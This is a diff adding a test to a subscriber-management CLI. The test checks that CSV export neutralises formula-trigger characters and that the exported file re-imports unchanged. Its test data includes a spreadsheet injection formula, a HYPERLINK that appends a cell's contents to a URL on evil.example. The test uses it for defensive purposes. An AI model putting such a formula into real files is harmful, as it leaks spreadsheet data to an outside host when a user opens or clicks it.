@@ -139,3 +139,44 @@ def test_repeats_are_counted_as_repeats_across_import_batches(cfg: Path, tmp_pat
     result = run_cli("subscribers", "import", data, "--confirmed", "--config", cfg)
     assert result.code == 0, result.err
     assert "Imported 2496 new as confirmed; 1 already on the list; 3 repeated in the file; 0 bad rows." in result.out
+
+
+TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def test_export_neutralises_cells_a_spreadsheet_would_run(tmp_path: Path, write_config: Callable[..., Path],
+                                                         run_cli: Callable[..., Run]) -> None:
+    from digest.adapters.store import Store
+    from digest.core.models import Consent
+
+    cfg = write_config()
+    cfg.write_text(cfg.read_text().replace('[topics]\n', '[topics]\n"Misc" = "+Misc"\n'))
+    names = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "+1", "-2", "@SUM(A1:A9)", "\tx", "\rx", "Plain"]
+    store = Store.open(f"sqlite:///{tmp_path / 'subscribers.db'}")
+    try:
+        for i, name in enumerate(names):
+            # Store.add keeps the name as given: a database written by hand or by an older
+            # version may hold what clean_name would remove.
+            store.add(f"r{i}@example.com", f"r{i}@example.com", name, ("+Misc",) if i == 0 else (), confirmed=True,
+                      now=datetime.now(timezone.utc), consent=Consent(at=datetime.now(timezone.utc), method="cli"))
+    finally:
+        store.close()
+    assert run_cli("subscribers", "add", "=1+2@example.com", "--confirmed", "--config", cfg).code == 0
+    assert run_cli("subscribers", "add", "--confirmed", "--config", cfg, "--", "-x@example.com").code == 0
+    out = tmp_path / "export.csv"
+    assert run_cli("subscribers", "export", out, "--config", cfg).code == 0
+    with out.open(newline="", encoding="utf-8") as handle:
+        rows = list(csv.reader(handle))[1:]
+    cells = {cell for row in rows for cell in row if cell}
+    assert not [c for c in cells if c.startswith(TRIGGERS)]
+    for name in names[:-1]:
+        assert "'" + name in cells, name
+    assert {"Plain", "'+Misc", "'=1+2@example.com", "'-x@example.com"} <= cells
+    # What we write we read back as it was (the import cleans control characters out of names).
+    other = write_config(name="other.toml")
+    other.write_text(cfg.read_text().replace("subscribers.db", "other.db"))
+    assert run_cli("subscribers", "import", out, "--confirmed", "--config", other).code == 0
+    listed = run_cli("subscribers", "list", "--config", other).out.splitlines()
+    assert listed == [f"r0@example.com\tconfirmed\t{names[0]}\t+Misc"] + [
+        f"r{i}@example.com\tconfirmed\t{name.strip()}\tall topics" for i, name in enumerate(names) if i] + [
+        "=1+2@example.com\tconfirmed\t\tall topics", "-x@example.com\tconfirmed\t\tall topics"]
